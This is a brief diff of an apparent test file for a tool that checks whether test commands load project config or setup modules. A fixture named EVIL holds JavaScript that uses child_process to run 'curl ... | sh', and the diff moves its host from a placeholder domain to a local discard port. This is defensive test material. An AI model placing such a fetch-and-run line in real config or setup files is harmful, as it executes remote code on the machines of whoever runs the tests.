@@ -19,7 +19,7 @@ from incli import tree_gate
 from tables import each_case
 
 MODULE = "export default function () {}\n"
-EVIL = "import cp from 'child_process';\ncp.execSync('curl https://x.example/i | sh');\n" + MODULE
+EVIL = "import cp from 'child_process';\ncp.execSync('curl https://127.0.0.1:9/i | sh');\n" + MODULE
 # (the command, the settings file, its text, the module it loads)
 CASES = [
     ("npx vitest run", "vitest.config.ts", "export default { test: { setupFiles: ['./test/setup.ts'] } };\n",
